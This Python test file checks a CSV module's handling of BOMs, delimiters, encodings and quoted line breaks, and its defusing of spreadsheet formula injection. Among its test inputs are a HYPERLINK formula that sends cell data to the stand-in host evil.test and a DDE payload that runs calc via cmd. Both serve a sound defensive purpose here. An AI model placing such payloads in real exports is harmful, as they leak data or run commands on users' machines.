"""CSV text as the tools write it: encodings, byte-order marks, delimiters, quoted line breaks."""

from __future__ import annotations

from pathlib import Path

import pytest
from transfer_files import write

from planner.domain.errors import FileRefused
from planner.transfer import csv_files


def test_a_bom_is_taken_off_the_first_header(tmp_path: Path) -> None:
    with_bom = csv_files.read(write(tmp_path / "a.csv", "Deal - Title,Deal - Value\nOne,1\n"))
    without = csv_files.read(write(tmp_path / "b.csv", "Deal - Title,Deal - Value\nOne,1\n", bom=False))
    assert with_bom.headers == without.headers == ["Deal - Title", "Deal - Value"]
    assert with_bom.bom and not without.bom


def test_quoted_cells_keep_line_breaks_and_rows_keep_their_line(tmp_path: Path) -> None:
    sheet = csv_files.read(write(tmp_path / "d.csv", 'Title,Notes\n"A","first\nsecond\nthird"\n"B","x"\n'))
    assert [r.line for r in sheet.rows] == [2, 5]
    assert sheet.rows[0].cells[1] == "first\r\nsecond\r\nthird"  # as written; a note takes it as lines


def test_semicolons_and_tabs_are_found(tmp_path: Path) -> None:
    semicolons = csv_files.read(write(tmp_path / "s.csv", "Kunde;Betrag\nAcme;1.234,50\n"))
    assert semicolons.rows[0].cells == ("Acme", "1.234,50")
    assert csv_files.read(write(tmp_path / "t.csv", "Name\tValue\nAcme\t5\n")).delimiter == "\t"


def test_utf16_from_excel_is_read(tmp_path: Path) -> None:
    path = tmp_path / "u.csv"
    path.write_bytes("Name,Value\n台積電,5\n".encode("utf-16"))
    assert csv_files.read(path).rows[0].cells == ("台積電", "5")


def test_text_in_another_encoding_is_refused_in_one_sentence(tmp_path: Path) -> None:
    path = tmp_path / "big5.csv"
    path.write_bytes("Name\n台積電\n".encode("big5"))
    with pytest.raises(FileRefused, match="not UTF-8 text"):
        csv_files.read(path)


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(FileRefused, match="empty"):
        csv_files.read(write(tmp_path / "e.csv", ""))


def test_written_files_have_the_bom_crlf_and_read_back(tmp_path: Path) -> None:
    data = csv_files.write(["Name", "Notes"], [["Acme, Inc.", 'He said "yes"\nthen left'], ["台積電", None]])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    path = tmp_path / "w.csv"
    path.write_bytes(data)
    sheet = csv_files.read(path)
    assert sheet.rows[0].cells == ("Acme, Inc.", 'He said "yes"\nthen left')
    assert sheet.rows[1].cells == ("台積電", "")


# --- formulas: a text a spreadsheet would run is written as text, and reads back as it was ---

from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from planner.domain.rules import clean_text  # noqa: E402

TRIGGERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
# texts that start like formulas, with apostrophes before them, or anything at all
_cell = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",))),
    st.builds(lambda q, t, rest: "'" * q + t + rest, st.integers(0, 3), st.sampled_from(TRIGGERS),
              st.text(alphabet=st.sampled_from("'=+-@()|!\"AZaz09 .,\t\n:/\\"), max_size=12)),
)


def _spreadsheet_runs(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` for a formula that does more than arithmetic on
    digits (a number or a phone number: -1250.5, +886 2 2345 6789)."""
    if not cell or cell[0] not in TRIGGERS:
        return False
    return not all(ch in "0123456789 ().-+/eE" for ch in cell)


@given(st.lists(st.lists(_cell, min_size=1, max_size=4), min_size=1, max_size=5))
def test_every_text_reads_back_as_written_and_none_runs_as_a_formula(rows: list[list[str]]) -> None:
    width = max(len(r) for r in rows)
    rows = [r + [""] * (width - len(r)) for r in rows]
    data = csv_files.write([f"c{i}" for i in range(width)], rows)
    sheet = csv_files.parse(csv_files.decode(data, "t.csv")[0], "t.csv")
    # as written, but for control characters other than line breaks and tabs (none goes out)
    assert [list(r.cells) for r in sheet.rows] == [[clean_text(c) for c in r] for r in rows]
    assert not set(data.decode("utf-8-sig")) & {chr(c) for c in [*range(0x20), *range(0x7f, 0xa0)]} - set("\t\r\n")
    import csv
    import io

    raw = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert not any(_spreadsheet_runs(cell) for row in raw for cell in row)


@pytest.mark.parametrize(("typed", "written"), [
    ('=HYPERLINK("http://evil.test/?"&A1,"Open")', '\'=HYPERLINK("http://evil.test/?"&A1,"Open")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("+A1", "'+A1"), ("- call Tom first", "'- call Tom first"),
    ("\uff1d1+1", "'\uff1d1+1"), ("'=already", "''=already"),
    ("-1250.5", "-1250.5"), ("+886 2 2345 6789", "+886 2 2345 6789"), ("'quoted", "'quoted"),
])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(typed: str, written: str) -> None:
    assert csv_files.defused(typed) == written
    assert csv_files.restored(written) == typed
